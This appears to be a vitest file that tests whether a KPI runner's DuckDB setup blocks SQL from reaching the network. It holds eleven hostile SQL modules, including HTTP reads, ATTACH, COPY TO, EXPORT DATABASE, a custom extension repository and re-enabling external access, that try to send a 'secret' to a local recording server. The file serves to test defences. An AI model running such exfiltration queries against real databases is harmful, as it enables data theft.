// Pins that the runner's SQL cannot reach the network by itself (`npm run kpis`, end to end): modules
// that try every way DuckDB has to name a web address (read_csv, a bare path, read_text, glob,
// read_parquet, read_json, attach, copy to, export database, install/load an extension from a chosen
// repository, turning external access back on) each fail with DuckDB's permission error, and a local
// server that records every request sees none. The runner's own inputs still load and are read:
// a CSV file, a Parquet folder read in place on every query, and `--out` files written.
import { execFile } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, expect, test } from 'vitest';

const root = fileURLToPath(new URL('../..', import.meta.url));
let server: Server;
let port: number;
const requests: string[] = [];
let tmp: string;

beforeAll(async () => {
  server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.setHeader('access-control-allow-origin', '*');
    res.end('id,secret\n1,42\n');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  port = (server.address() as { port: number }).port;
  tmp = mkdtempSync(join(tmpdir(), 'clientele-exfil-'));
});

afterAll(() => {
  server.close();
  rmSync(tmp, { recursive: true, force: true });
});

/** One module per way out; each names the local server with the data in the query string. */
function hostileModules(): Record<string, string> {
  const at = (path: string) => `http://127.0.0.1:${port}/${path}?secret=42`;
  return {
    read_csv_http: `select count(*)::varchar as x from read_csv('${at('orders.csv')}')`,
    bare_path_http: `select count(*)::varchar as x from '${at('bare.csv')}'`,
    read_text_http: `select content::varchar as x from read_text('${at('text')}')`,
    glob_http: `select file::varchar as x from glob('${at('*')}')`,
    read_parquet_http: `select count(*)::varchar as x from read_parquet('${at('x.parquet')}')`,
    read_json_http: `select count(*)::varchar as x from read_json('${at('x.json')}')`,
    attach_http: `attach '${at('db.duckdb')}' as remote`,
    copy_to_http: `copy (select customer_id from orders) to '${at('out.csv')}'`,
    export_http: `export database '${at('dump')}'`,
    load_extension: `set custom_extension_repository = 'http://127.0.0.1:${port}/ext'; install httpfs; load httpfs`,
    reopen_access: `set enable_external_access = true; select count(*)::varchar as x from read_csv('${at('again.csv')}')`,
  };
}

/**
 * DuckDB's refusals: a path outside the allowed ones, an extension load, external access turned back
 * on; a web path whose extension is not loaded (and can no longer be) is refused before any access.
 */
const refused = /disabled by configuration|Cannot (change|enable) external.access|Cannot change enable_external_access|requires the extension httpfs to be loaded/;

function moduleFile(id: string, sql: string): string {
  return [`-- id: ${id}`, '-- version: 1', `-- title: ${id}`, '-- needs: orders(order_id)', '-- view: table', '-- show: x text | X', '-- columns: x varchar', '-- Tries to reach a web address.', sql, ''].join('\n');
}

function kpis(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, ['--import', 'tsx', 'src/cli/kpis.ts', ...args], { cwd: root, maxBuffer: 64 * 1024 * 1024 }, (error, stdout, stderr) =>
      resolve({ code: error ? Number(error.code) : 0, stdout, stderr }),
    );
  });
}

test('no module reaches the recording server; the runner still reads its CSV, a Parquet folder in place, and writes --out', async () => {
  const queries = join(tmp, 'queries', 'hostile');
  mkdirSync(queries, { recursive: true });
  for (const [id, sql] of Object.entries(hostileModules())) writeFileSync(join(queries, `${id}.sql`), moduleFile(id, sql));
  // A module reading the customers view, which is the Parquet folder read in place on every query.
  writeFileSync(join(queries, 'customer_count.sql'), moduleFile('customer_count', 'select count(*)::varchar as x from customers').replace('orders(order_id)', 'customers(customer_id)'));
  const folder = join(tmp, 'customers');
  mkdirSync(folder);
  copyFileSync(join(root, 'static/sample/customers.parquet'), join(folder, 'part-0.parquet'));
  const out = join(tmp, 'out');

  const { code, stdout, stderr } = await kpis('test/fixtures/cli/orders.csv', folder, '--queries', join(tmp, 'queries'), '--json', '--out', out, '--out-format', 'csv');
  expect(stderr).not.toMatch(/kpis:/);
  expect(code).toBe(1); // the hostile modules failed
  const report = JSON.parse(stdout) as { modules: { id: string; error?: string; rows: { x: string }[] }[] };
  const byId = new Map(report.modules.map((m) => [m.id, m]));
  for (const id of Object.keys(hostileModules())) {
    const error = byId.get(id)?.error ?? '';
    if (!refused.test(error)) console.log(report.modules.map((m) => `${m.id}: ${m.error?.split("\n")[0]}`).join("\n"));
  }
  for (const id of Object.keys(hostileModules())) expect(byId.get(id)?.error ?? '', id).toMatch(refused);
  expect(requests).toEqual([]);
  expect(byId.get('customer_count')).toMatchObject({ rows: [{ x: '20000' }] });
  expect(existsSync(join(out, 'customer_count.csv'))).toBe(true);
}, 120_000);
